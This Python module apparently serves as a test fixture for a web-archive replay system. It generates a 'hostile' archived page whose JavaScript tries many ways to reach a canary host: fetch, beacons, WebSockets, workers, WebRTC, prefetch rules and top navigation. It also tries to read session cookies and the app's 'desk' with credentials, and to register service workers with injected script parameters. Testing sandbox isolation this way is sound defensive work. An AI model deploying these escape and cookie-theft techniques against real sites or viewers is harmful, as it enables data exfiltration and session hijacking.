"""An archived page that tries every way out of its replay that its author could think of.

Each attempt names itself in the path it asks `canary` for. What it could read of the desk it writes into its own
document, as `<p id=loot>`, and the attempts that threw into `<p id=tried>`. The player rewrites the scripts of a page;
whoever finds a way round that has `script()` run as it stands.
"""

from string import Template

# language=HTML
_PAGE = Template("""<!doctype html><html lang=en><head><meta charset=utf-8><title>Hostile</title>
<link rel=preconnect href="http://$canary/"><link rel=dns-prefetch href="http://$canary/">
<link rel=prefetch href="http://$canary/link-prefetch"><link rel=preload as=image href="http://$canary/link-preload">
<link rel=stylesheet href="http://$canary/link-style"><script src="http://$canary/script"></script>
<style>@import url("http://$canary/css-import"); body { background: url("http://$canary/css-image") }</style>
<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["http://$canary/speculation"]}]}</script>
</head><body><p>A hostile page, archived whole, with words enough to be read and found again by whoever looks.</p>
<p id=loot></p><p id=tried></p><img src="http://$canary/img">
<iframe src="http://$canary/iframe"></iframe><object data="http://$canary/object"></object>
<video src="http://$canary/video"></video><svg><image href="http://$canary/svg"/></svg>
<a id=link ping="http://$canary/ping" href="http://$canary/link">a</a>
<form id=form action="http://$canary/form" method=post><input name=a></form>
<script>$script</script></body></html>""")

# language=JavaScript
_SCRIPT = Template("""(() => {
const out = "http://$canary", desk = "http://$desk", tried = [], loot = [];
function attempt(name, act) {
  try { Promise.resolve(act()).catch((e) => tried.push(name)); } catch (e) { tried.push(name); }
}
/* A window nobody has rewritten: what the player replaces in ours is untouched there. */
const frame = document.createElement("iframe"); document.body.append(frame);
const windows = {own: window, fresh: frame.contentWindow, viewer: window.parent, top: window.top};
for (const [where, w] of Object.entries(windows)) {
  const go = (name, act) => attempt(where + "-" + name, act);
  go("fetch", () => w.fetch(out + "/" + where + "-fetch", {mode: "no-cors"}));
  go("xhr", () => { const x = new w.XMLHttpRequest(); x.open("GET", out + "/" + where + "-xhr"); x.send(); });
  go("beacon", () => w.navigator.sendBeacon(out + "/" + where + "-beacon", "x"));
  go("ws", () => new w.WebSocket("ws://$canary/" + where + "-ws"));
  go("es", () => new w.EventSource(out + "/" + where + "-es"));
  go("image", () => { new w.Image().src = out + "/" + where + "-image"; });
  go("import", () => w.eval("import('" + out + "/" + where + "-import')"));
  go("worker", () => new w.Worker(w.URL.createObjectURL(new w.Blob(["fetch('" + out + "/" + where + "-worker')"]))));
  go("shared", () => new w.SharedWorker(out + "/" + where + "-shared"));
  go("transport", () => new w.WebTransport("https://$canary/" + where));
  go("links", () => { for (const rel of ["preconnect", "prefetch", "preload", "modulepreload", "stylesheet", "icon"]) {
    const link = w.document.createElement("link"); link.rel = rel; link.as = "script";
    link.setAttribute("href", out + "/" + where + "-link-" + rel); w.document.head.append(link); } });
  go("rules", () => { const s = w.document.createElement("script"); s.type = "speculationrules";
    s.textContent = JSON.stringify({prefetch: [{source: "list", urls: [out + "/" + where + "-rules"]}]});
    w.document.head.append(s); });
  go("desk", () => w.fetch(desk + "/", {credentials: "include"}).then((r) => r.text()).then((t) => {
    if (t.includes("Isnad")) loot.push("desk"); }));
  go("cookies", () => { if (/sessionid|csrftoken/.test(w.document.cookie)) loot.push(w.document.cookie); });
  go("storage", () => { if (w.localStorage.getItem("desk")) loot.push("storage"); });
  go("dom", () => { if (w.document.querySelector(".capture-head")) loot.push("dom"); });
}
attempt("sw", () => navigator.serviceWorker.register("/sw.js?injectScripts=http://$canary/inject"));
attempt("sw2", () => frame.contentWindow.navigator.serviceWorker.register("/sw.js?allowProxyPaths=" + out));
attempt("proxy", () => frame.contentWindow.fetch("/static/proxy/" + out + "/proxy"));
const inner = document.createElement("iframe"), data = document.createElement("iframe");
inner.srcdoc = "<meta http-equiv=refresh content='0;url=" + out + "/refresh'>";
data.src = "data:text/html,<img src='" + out + "/data'>";
document.body.append(inner, data);
attempt("ran", () => Promise.reject());
/* The page's own script and the one that found a way round it write here in turns: neither takes back the other's. */
const tell = (id, list) => {
  const told = document.getElementById(id);
  told.textContent = [...new Set([...told.textContent.split(" "), ...list])].filter(Boolean).join(" ");
};
setInterval(() => { tell("loot", loot); tell("tried", tried); }, 100);
/* The rest leads out of this page or ends it, so it waits to be called. */
window.leave = () => {
  for (const [where, w] of Object.entries(windows)) attempt("open", () => w.open(out + "/" + where + "-open"));
  attempt("click", () => document.getElementById("link").click());
  attempt("top", () => { window.top.location = out + "/top-location"; });
  attempt("top2", () => frame.contentWindow.open(out + "/top-open", "_top"));
  attempt("viewer", () => { window.parent.eval("location = '" + out + "/viewer-location'"); });
  attempt("self", () => { frame.contentWindow.eval("parent.location = '" + out + "/self-location'"); });
};
window.submit = () => document.getElementById("form").submit();
window.call = () => {
  for (const w of [window, frame.contentWindow]) attempt("rtc", () => {
    const p = new w.RTCPeerConnection({iceServers: [{urls: "stun:$canary"}]});
    p.createDataChannel("a"); return p.createOffer().then((offer) => p.setLocalDescription(offer)); });
};
})();""")


def script(canary: str, desk: str) -> str:
    return _SCRIPT.substitute(canary=canary, desk=desk)


def page(canary: str, desk: str) -> bytes:
    return _PAGE.substitute(canary=canary, script=script(canary, desk)).encode()
